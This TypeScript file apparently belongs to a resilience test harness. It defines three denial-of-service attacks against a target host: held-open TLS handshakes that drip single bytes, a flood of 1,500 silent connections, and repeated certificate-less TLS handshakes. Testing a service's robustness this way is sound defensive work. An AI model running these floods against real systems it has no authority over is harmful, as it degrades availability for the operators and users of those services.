import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { type Attack, Count, endWith, onLines, type Target } from './attack.ts';

const dripMs = 50;

/** A connection that is kept until the service ends it; `drip` is sent now and then. */
function keepOpen(lines: number, beginning: Buffer, drip: Buffer): Attack['run'] {
  return async ({ host, port }, signal) => {
    const count = new Count();
    return await onLines(lines, count, signal, async () => {
      const socket = connect(port, host).on('error', () => {});
      const forget = endWith(signal, socket);
      await once(socket, 'connect', { signal });
      count.connections += 1;
      count.attempts += 1;
      socket.resume().write(beginning);
      const timer = setInterval(() => void socket.write(drip), dripMs);
      if (!socket.closed) await once(socket, 'close');
      clearInterval(timer);
      forget();
      if (!signal.aborted) count.ended += 1;
    });
  };
}

async function shakeHands({ host, port }: Target, signal: AbortSignal): ReturnType<Attack['run']> {
  const count = new Count();
  return await onLines(16, count, signal, async () => {
    count.connections += 1;
    count.attempts += 1;
    const socket = connectTls({ host, port, rejectUnauthorized: false, ALPNProtocols: ['h2'] }).on('error', () => {});
    await Promise.race([once(socket.resume(), 'close'), sleep(2_000)]);
    if (socket.closed) count.ended += 1;
    socket.destroy();
  });
}

/** The beginning of a ClientHello of 16 KiB. */
const clientHello = Buffer.from([22, 3, 1, 64, 0, 1, 0, 63, 252, 3, 3]);

/** What anyone in the network can do, who has no SVID. */
export const attacksByStrangers: readonly Attack[] = [
  {
    id: 'endless-handshake',
    title: 'begins 300 handshakes, and sends a byte of each now and then',
    run: keepOpen(300, clientHello, Buffer.alloc(1)),
  },
  {
    id: 'connection-flood',
    title: 'opens 1,500 connections, and says nothing',
    run: keepOpen(1_500, Buffer.alloc(0), Buffer.alloc(0)),
  },
  {
    id: 'handshake-flood',
    title: 'makes one whole handshake after the other, without a certificate',
    run: shakeHands,
  },
];
